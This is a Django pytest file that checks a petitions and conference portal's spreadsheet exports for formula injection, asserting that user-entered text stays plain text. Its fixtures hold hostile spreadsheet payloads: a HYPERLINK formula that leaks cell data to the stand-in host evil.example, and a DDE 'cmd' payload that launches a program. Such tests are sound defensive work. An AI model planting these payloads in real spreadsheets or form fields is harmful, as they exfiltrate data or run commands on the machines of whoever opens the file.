"""Issue 20 item 10: every spreadsheet the portal writes holds user text as text: no `<f>` element anywhere,
and the text reads exactly as typed (no visible leading apostrophe)."""

import io
import re
import zipfile

import pytest
from django import forms
from django.urls import reverse
from openpyxl import load_workbook

from conferences.models import Body, Conference, Registration
from petitions.models import Petition
from tests.factories import ScopingWorld

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "=1+1"]


@pytest.fixture
def world(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    world = ScopingWorld()
    Registration.objects.filter(pk=world.hh_reg.pk).update(
        organisation_name=HOSTILE, full_name=OTHERS[0], position=OTHERS[1])
    Petition.objects.filter(body=world.hh).update(
        organisation_name=HOSTILE, content=OTHERS[3], proposed_solution=OTHERS[2], answer_draft=HOSTILE)
    Body.objects.filter(pk__in=[world.hh.pk, world.city.pk]).update(name=HOSTILE)
    Conference.objects.filter(pk=world.hh_conf.pk).update(title=HOSTILE, venue=OTHERS[3])
    return world


def formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())]


def texts(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def admin_export(client, world):
    url = reverse("admin:petitions_petition_export")
    form = client.get(url).context["form"]
    data = {name: "on" for name, field in form.fields.items() if isinstance(field, forms.BooleanField)}
    return client.post(url, {**data, "format": "0", "resource": "0"}).content


def background_export(client, world, django_capture_on_commit_callbacks):
    from reports.models import ExportJob

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reports:export_create"), {"conference": world.hh_conf.pk})
    job = ExportJob.objects.get()
    return b"".join(client.get(reverse("reports:export_download", args=[job.pk])).streaming_content)


SPREADSHEETS = {
    "admin export": admin_export,
    "detail export": lambda client, world: client.get(
        reverse("reports:conference_petitions_xlsx", args=[world.hh_conf.pk])).content,
    "year export": lambda client, world: client.get(
        reverse("reports:body_petitions_xlsx", args=[world.hh.slug, 2026])).content,
    "Phụ lục I": lambda client, world: client.get(
        reverse("reports:body_phu_luc_1", args=[world.hh.slug, 2026, "xlsx"])).content,
    "city workbook": lambda client, world: client.get(
        reverse("reports:body_phu_luc_1", args=[world.city.slug, 2026, "xlsx"])).content,
    "attendance list": lambda client, world: client.get(
        reverse("reports:conference_attendance", args=[world.hh_conf.pk, "xlsx"])).content,
}


@pytest.mark.parametrize("name", [*SPREADSHEETS, "background export"])
def test_no_formula_from_user_text(client, world, name, django_capture_on_commit_callbacks):
    client.force_login(world.superuser)
    if name == "background export":
        content = background_export(client, world, django_capture_on_commit_callbacks)
    else:
        content = SPREADSHEETS[name](client, world)
    assert content[:2] == b"PK", name
    assert formulas(content) == []
    values = texts(content)
    assert any(HOSTILE in value for value in values), name  # shown as typed …
    assert not any(value.startswith("'") for value in values)  # … without a visible apostrophe
